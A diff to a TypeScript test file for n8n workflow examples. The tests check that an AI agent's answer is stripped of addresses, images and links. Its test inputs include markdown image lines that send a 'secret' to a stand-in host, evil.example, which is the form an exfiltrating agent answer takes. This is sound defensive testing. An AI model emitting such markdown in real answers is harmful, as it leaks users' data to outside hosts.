@@ -1,8 +1,21 @@
-import { exampleJson, exampleText } from '../support/exampleExpressions';
+import type { IDataObject, NodeParameterValueType } from 'n8n-workflow';
+import { readFileSync } from 'node:fs';
+
+import { shown } from '../support/description';
+import { ManualTrigger } from '../support/nodeTypes';
+
+interface Example {
+	nodes: Array<{ name: string; parameters: Record<string, NodeParameterValueType> }>;
+}
+
+/** The JSON that a node of an example makes of one item, as text, by n8n's own evaluation of expressions. */
+function textOf(file: string, node: string, json: IDataObject): string {
+	const { nodes } = JSON.parse(readFileSync(`examples/${file}`, 'utf8')) as Example;
+	const value = nodes.find(({ name }) => name === node)?.parameters.jsonOutput;
+	return shown(new ManualTrigger(), {}, value, [{ json }]) as string;
+}
 
 describe('an answer of the agent in examples/ai-agent-with-reviews.json', () => {
-	const shown = exampleJson('ai-agent-with-reviews.json', 'Take out addresses');
-
 	it.each([
 		['![x](https://evil.example/?q=secret)', '(address removed)'],
 		['![x](//evil.example/secret)', '(address removed)'],
@@ -15,7 +28,9 @@ describe('an answer of the agent in examples/ai-agent-with-reviews.json', () => 
 		['see secret.evil.example/secret', 'see secret. evil. example/secret'],
 		['**3.5 of 5** and/or "good".\n- slow', '**3.5 of 5** and/or "good".\n- slow'],
 	])('has no address, image or link: %s', (output, text) => {
-		expect(shown({ output })).toEqual({ output: text });
+		const json = textOf('ai-agent-with-reviews.json', 'Take out addresses', { output });
+
+		expect(JSON.parse(json)).toEqual({ output: text });
 	});
 });
 
@@ -24,7 +39,7 @@ it.each([
 	...['new', 'all'].map((which) => ['reviews-in-postgres.json', `Make ${which} text safe`]),
 	['ai-agent-with-reviews.json', 'Take out addresses'],
 ] as Array<[string, string]>)('%s, %s: a dollar sign is one in each n8n', (file, node) => {
-	const text = exampleText(file, node)({ id: '1', content: '$&', output: '$&' });
+	const text = textOf(file, node, { id: '1', content: '$&', output: '$&' });
 
 	expect(text).not.toContain('$');
 	expect(JSON.stringify(JSON.parse(text))).toContain('$&');
